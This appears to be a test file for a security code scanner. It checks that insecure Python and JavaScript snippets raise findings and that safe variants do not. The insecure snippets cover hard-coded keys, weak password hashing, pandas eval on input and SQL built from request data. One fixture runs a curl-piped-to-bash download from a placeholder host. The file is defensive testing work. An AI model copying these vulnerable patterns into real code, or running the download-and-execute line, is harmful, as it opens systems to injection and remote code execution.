import t from 'tap';
import { isBlocking } from '../../../../plugins/engines/code/index.js';
import { analyzeCode, initPython } from '../../../../plugins/engines/code/analyze.js';
import type { Language } from '../../../../plugins/engines/code/types.js';

/**
 * Issue 20's code findings, each with the true example that must raise it (and block) and the false
 * example that must not: secrets by value, literal crypto keys, password hashing, DataFrame.eval /
 * query from input, SQL built from request or input values, and a list argv holding "|".
 */
type Row = [name: string, language: Language, code: string, rule: string];

const TRUE: Row[] = [
  ['AWS access key id by value', 'python', 'CONFIG = {"region": "eu-west-1", "id": "AKIAIOSFODNN7ABCDEFG"}\n', 'python.secrets.aws_access_key'],
  ['private key block by value', 'python', 'PEM = """-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"""\n', 'python.secrets.private_key'],
  ['literal Fernet key', 'python', 'from cryptography.fernet import Fernet\nf = Fernet(b"ZmFrZS1rZXktZm9yLXRlc3RzLW9ubHktMTIzNDU2Nzg=")\n', 'python.secrets.literal_crypto_key'],
  ['literal AES key', 'python', 'from Crypto.Cipher import AES\nc = AES.new(b"0123456789abcdef", AES.MODE_GCM)\n', 'python.secrets.literal_crypto_key'],
  ['literal HMAC key', 'python', 'import hmac, hashlib\nsig = hmac.new(b"webhook-signing-key", body, hashlib.sha256)\n', 'python.secrets.literal_crypto_key'],
  ['MD5 of a password', 'python', 'import hashlib\ndef store(password):\n    return hashlib.md5(password.encode()).hexdigest()\n', 'python.crypto.weak_password_hash'],
  ['SHA-1 via hashlib.new', 'python', 'import hashlib\ndef store(user):\n    return hashlib.new("sha1", user.password).hexdigest()\n', 'python.crypto.weak_password_hash'],
  ['unsalted SHA-256 of a password', 'python', 'import hashlib\ndef store(pwd):\n    return hashlib.sha256(pwd.encode("utf-8")).hexdigest()\n', 'python.crypto.weak_password_hash'],
  ['DataFrame.query from input()', 'python', 'import pandas as pd\ndf = pd.read_csv("data.csv")\nexpr = input("filter: ")\nprint(df.query(expr))\n', 'python.code_injection.dataframe_eval'],
  ['DataFrame.eval from a request', 'python', 'import pandas as pd\nfrom flask import request\ndef view():\n    df = pd.DataFrame({"a": [1]})\n    return df.eval(request.args.get("e"))\n', 'python.code_injection.dataframe_eval'],
  ['SQL f-string from request.args', 'python', 'from flask import request\ndef user(cur):\n    name = request.args["name"]\n    cur.execute(f"SELECT * FROM users WHERE name = \'{name}\'")\n', 'python.sql_injection.string_built'],
  ['SQL %-formatting from sys.argv', 'python', 'import sys\ndef run(cur):\n    q = "DELETE FROM t WHERE id = %s" % sys.argv[1]\n    cur.execute(q)\n', 'python.sql_injection.string_built'],
  ['SQL .format from input()', 'python', 'def run(cursor):\n    who = input()\n    cursor.execute("SELECT * FROM t WHERE who = \'{}\'".format(who))\n', 'python.sql_injection.string_built'],
  ['SQL concatenation from a route parameter', 'python', '@app.route("/u/<uid>")\ndef show(uid):\n    db.execute("SELECT * FROM users WHERE id = " + uid)\n', 'python.sql_injection.string_built'],
  ['JS AWS key by value', 'javascript', 'const cfg = { id: "AKIAIOSFODNN7ABCDEFG" };\n', 'javascript.secrets.aws_access_key'],
  ['JS literal HMAC key', 'javascript', 'const crypto = require("crypto");\nconst h = crypto.createHmac("sha256", "webhook-signing-key");\n', 'javascript.secrets.literal_crypto_key'],
];

const FALSE: Array<[name: string, language: Language, code: string, rule: string]> = [
  ['an AWS documentation example key', 'python', 'EXAMPLE = "AKIAIOSFODNN7EXAMPLE"\n', 'python.secrets.aws_access_key'],
  ['a public key block', 'python', 'PEM = "-----BEGIN PUBLIC KEY-----\\nMFkw\\n-----END PUBLIC KEY-----"\n', 'python.secrets.private_key'],
  ['the key generated at run time', 'python', 'from cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n', 'python.secrets.literal_crypto_key'],
  ['the key from the environment', 'python', 'import os, hmac, hashlib\nsig = hmac.new(os.environ["KEY"].encode(), body, hashlib.sha256)\n', 'python.secrets.literal_crypto_key'],
  ['SHA-256 of data, not a password', 'python', 'import hashlib\ndef digest(data):\n    return hashlib.sha256(data).hexdigest()\n', 'python.crypto.weak_password_hash'],
  ['salted SHA-256 of a password', 'python', 'import hashlib\ndef store(password, salt):\n    return hashlib.sha256(salt + password.encode()).hexdigest()\n', 'python.crypto.weak_password_hash'],
  ['scrypt of a password', 'python', 'import hashlib\ndef store(password, salt):\n    return hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1)\n', 'python.crypto.weak_password_hash'],
  ['DataFrame.query with a constant', 'python', 'import pandas as pd\ndf = pd.read_csv("data.csv")\nprint(df.query("a > 1"))\n', 'python.code_injection.dataframe_eval'],
  ['parameterised SQL with request data', 'python', 'from flask import request\ndef user(cur):\n    name = request.args["name"]\n    cur.execute("SELECT * FROM users WHERE name = ?", (name,))\n', 'python.sql_injection.string_built'],
  ['SQL built from constants only', 'python', 'TABLE = "users"\ndef count(cur):\n    cur.execute(f"SELECT COUNT(*) FROM {TABLE}")\n', 'python.sql_injection.string_built'],
  ['SQL built from an int() of input', 'python', 'def row(cur):\n    cur.execute("SELECT * FROM t WHERE id = %d" % int(input()))\n', 'python.sql_injection.string_built'],
  ['JS key from the environment', 'javascript', 'const crypto = require("crypto");\nconst h = crypto.createHmac("sha256", process.env.KEY);\n', 'javascript.secrets.literal_crypto_key'],
];

// the grammar loaded before the first case (a top-level await: this file shares a process, see unit.test.ts)
await initPython();

t.test('each data finding: the true example raises it and blocks', async (t) => {
  for (const [name, language, code, rule] of TRUE) {
    const a = await analyzeCode(code, language);
    t.ok(a.parseOk, `${name}: parses`);
    const hit = a.findings.find((f) => f.rule_id === rule);
    t.ok(hit, `${name}: ${rule}`);
    t.ok(hit && isBlocking(hit), `${name}: blocks`);
  }
});

t.test('each data finding: the false example does not raise it', async (t) => {
  for (const [name, language, code, rule] of FALSE) {
    const a = await analyzeCode(code, language);
    t.ok(a.parseOk, `${name}: parses`);
    t.notOk(a.findings.some((f) => f.rule_id === rule), `${name}: no ${rule}`);
    t.same(a.findings.filter(isBlocking), [], `${name}: admitted`);
  }
});

t.test('a list argv holding "|" is no pipe: no shell runs, reported for what it is', async (t) => {
  const py = await analyzeCode('import subprocess\nsubprocess.run(["curl", url, "|", "bash"])\n', 'python');
  t.notOk(py.findings.some((f) => f.rule_id === 'python.rce.download_pipe_shell'), 'not a download piped to a shell');
  const arg = py.findings.find((f) => f.rule_id === 'python.process.dynamic_arguments');
  t.ok(arg, 'curl with computed arguments');
  t.match(arg?.message, /"\|" is an argument of "curl", not shell syntax/);
  const fixed = await analyzeCode('import subprocess\nsubprocess.run(["echo", "a", "|", "wc"])\n', 'python');
  t.ok(fixed.findings.some((f) => f.rule_id === 'python.process.argv_shell_syntax' && f.severity === 'LOW'));
  const viaShell = await analyzeCode('import subprocess\nsubprocess.run(["sh", "-c", "curl -s https://x.example/i.sh | bash"])\n', 'python');
  t.ok(viaShell.findings.some((f) => f.rule_id === 'python.rce.download_pipe_shell'), 'sh -c runs its script through a shell');
  const js = await analyzeCode('const cp = require("child_process");\ncp.execFile("curl", [url, "|", "sh"]);\n', 'javascript');
  t.notOk(js.findings.some((f) => f.rule_id === 'javascript.rce.download_pipe_shell'));
});
